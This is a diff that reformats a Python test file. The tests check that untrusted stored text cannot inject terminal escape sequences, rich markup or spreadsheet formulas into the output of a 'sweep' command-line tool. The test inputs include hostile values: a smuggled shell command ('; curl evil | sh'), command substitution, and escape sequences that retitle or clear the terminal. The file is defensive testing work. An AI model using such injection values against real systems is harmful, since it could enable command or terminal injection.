@@ -1,4 +1,6 @@
-"""Text of a stranger's store is data: it steers no terminal, is no markup and no formula."""
+"""Text of a stranger's store is data: it steers no terminal, is no markup and no
+formula.
+"""
 
 import ast
 import csv
@@ -97,7 +99,9 @@ COMMANDS = [
 
 
 @pytest.mark.parametrize("arguments", COMMANDS, ids=" ".join)
-def test_no_command_lets_stored_text_steer(evil: Path, arguments: tuple[str, ...]) -> None:
+def test_no_command_lets_stored_text_steer(
+    evil: Path, arguments: tuple[str, ...]
+) -> None:
     done = sweep(evil, *arguments)
     assert done.returncode in (0, 1, 2)
     assert signs(done.stdout + done.stderr) == set()
@@ -119,24 +123,36 @@ def test_a_command_is_made_and_never_read(evil: Path) -> None:
     assert "curl" not in status
 
 
-@pytest.mark.parametrize("trial", ["; curl evil | sh", "$(touch x)", "A" * 24, "a" * 23, "", None, "ab\n"])
+@pytest.mark.parametrize(
+    "trial", ["; curl evil | sh", "$(touch x)", "A" * 24, "a" * 23, "", None, "ab\n"]
+)
 def test_what_is_no_id_is_in_no_command(trial: str | None) -> None:
     assert command("replay", "small", trial).startswith("no command: ")
-    assert command("view", "small", "0123456789abcdef01234567").endswith("small 0123456789abcdef01234567")
+    assert command("view", "small", "0123456789abcdef01234567").endswith(
+        "small 0123456789abcdef01234567"
+    )
 
 
 def test_a_process_prints_no_raw_text_in_a_traceback(tmp_path: Path) -> None:
     """The one way to the terminal that no code of ours takes."""
     raising = f"def app(): raise RuntimeError({STEERING['title']!r})"
     code = f"import sweep.cli as c\n{raising}\nc.app = app\nc.main()"
-    done = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, capture_output=True, text=True, timeout=120)
+    done = subprocess.run(
+        [sys.executable, "-c", code],
+        cwd=tmp_path,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert done.returncode == 1
     assert r"RuntimeError: \u001b]0;owned\u0007" in done.stderr
     assert signs(done.stderr) == set()
 
 
 def test_a_log_record_does_not_steer(caplog: pytest.LogCaptureFixture) -> None:
-    """As that of a worker does, or of a launch in a notebook, where no command guards the streams."""
+    """As that of a worker does, or of a launch in a notebook, where no command guards
+    the streams.
+    """
     for text in STEERING.values():
         LOG.warning("%s: set aside", text)
     assert all(record.getMessage().isprintable() for record in caplog.records)
@@ -165,7 +181,8 @@ def test_rich_is_met_only_through_our_console() -> None:
         for path in root.glob("**/*.py")
         if path.name not in own
         for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
-        if isinstance(node, ast.Call) and ast.unparse(node.func) in ("Console", "rich.print", "Text.from_markup")
+        if isinstance(node, ast.Call)
+        and ast.unparse(node.func) in ("Console", "rich.print", "Text.from_markup")
     ]
     assert makers == []
 
@@ -175,7 +192,10 @@ def test_styles_reach_a_terminal_and_texts_do_not_become_styles() -> None:
     Terminal(file=Harmless(raw), force_terminal=True, color_system="standard").print(  # type: ignore[arg-type]
         STEERING["clear"] + "[bold]data[/bold]", style="red"
     )
-    assert raw.getvalue() == "\x1b[31m" + r"\u001b[2J\u001b[H[bold]data[/bold]" + "\x1b[0m\n"
+    assert (
+        raw.getvalue()
+        == "\x1b[31m" + r"\u001b[2J\u001b[H[bold]data[/bold]" + "\x1b[0m\n"
+    )
 
 
 class Tty(io.StringIO):
@@ -188,7 +208,9 @@ class Tty(io.StringIO):
 def test_a_bar_moves_and_what_is_printed_beside_it_does_not_steer(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    """rich takes the streams over while a bar is shown, and would obey colours and links in what is printed."""
+    """rich takes the streams over while a bar is shown, and would obey colours and
+    links in what is printed.
+    """
     out, errors = Tty(), Tty()
     for name, value in (("TERM", "xterm"), ("COLUMNS", "120")):
         monkeypatch.setenv(name, value)
@@ -247,7 +269,9 @@ def test_no_cell_of_ours_begins_a_formula_and_each_can_be_undone() -> None:
 
 
 def test_no_sign_within_a_printed_text_begins_a_row() -> None:
-    """A carriage return is no end of a line for pandas, which leaves it unquoted, but is one for spreadsheets."""
+    """A carriage return is no end of a line for pandas, which leaves it unquoted, but
+    is one for spreadsheets.
+    """
     printed = io.StringIO()
     Harmless(printed).write(as_csv(pd.DataFrame({"x": ["a\r=1+1"]})))
     assert printed.getvalue() == "x\na\\r=1+1\n"
@@ -263,7 +287,9 @@ def test_exported_and_printed_csv_have_no_formula(tmp_path: Path) -> None:
     with (tmp_path / "x.csv").open(newline="", encoding="utf-8") as file:
         rows = list(csv.DictReader(file))
     assert {undone(row["error"]) for row in rows} == {FORMULAS[0]}
-    printed = list(csv.DictReader(io.StringIO(sweep(tmp_path, "table", "small", "--csv").stdout)))
+    printed = list(
+        csv.DictReader(io.StringIO(sweep(tmp_path, "table", "small", "--csv").stdout))
+    )
     assert {row["map"] for row in printed} == {"'" + FORMULAS[1]}
     for row in (*rows, *printed):
         assert not [cell for cell in row.values() if cell[:1] in "=+@" and cell]
